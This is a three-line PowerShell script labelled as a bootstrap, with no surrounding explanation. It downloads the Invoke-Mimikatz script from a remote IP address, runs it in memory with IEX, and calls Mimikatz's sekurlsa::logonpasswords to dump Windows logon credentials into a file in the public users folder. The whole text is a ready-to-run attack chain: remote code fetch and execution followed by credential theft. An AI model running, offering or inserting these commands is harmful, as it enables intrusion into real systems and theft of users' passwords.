# bootstrap 4289 v2
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
